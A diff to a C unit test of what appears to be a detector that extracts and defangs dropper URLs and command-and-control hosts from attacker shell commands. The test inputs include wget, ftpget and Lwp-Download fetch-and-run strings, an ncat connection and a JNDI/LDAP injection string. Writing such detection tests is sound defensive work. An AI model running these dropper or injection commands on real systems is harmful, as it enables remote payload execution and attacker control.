@@ -56,6 +56,12 @@ static void test_droppers(void **state)
          URL("tftp://8[.]8[.]4[.]4/a", "8[.]8[.]4[.]4")},
         {"ftpget -v -u anonymous -p anonymous -P 21 8.8.4.4 ftp1.sh ftp1.sh; sh",
          URL("ftp://8[.]8[.]4[.]4/ftp1.sh", "8[.]8[.]4[.]4")},
+        {"WGET http://8.8.4.4/u;Lwp-Download http://8.8.4.4/v",
+         "url loader hxxp://8[.]8[.]4[.]4/u|host loader 8[.]8[.]4[.]4|url loader "
+         "hxxp://8[.]8[.]4[.]4/v"},
+        {"[wget http://8.8.4.4/u", URL("hxxp://8[.]8[.]4[.]4/u", "8[.]8[.]4[.]4")},
+        {"@Ncat 8.8.4.8 44;{JNDI:ldap://8.8.4.2/a}",
+         "host c2 8[.]8[.]4[.]8|url loader ldap://8[.]8[.]4[.]2/a|host loader 8[.]8[.]4[.]2"},
         {"wget http://134743044/x", URL("hxxp://8[.]8[.]4[.]4/x", "8[.]8[.]4[.]4")},
         {"wget http://0x08.010.0x4.4/x", URL("hxxp://8[.]8[.]4[.]4/x", "8[.]8[.]4[.]4")},
         {"wget http://[2606:4700::1111]/x",
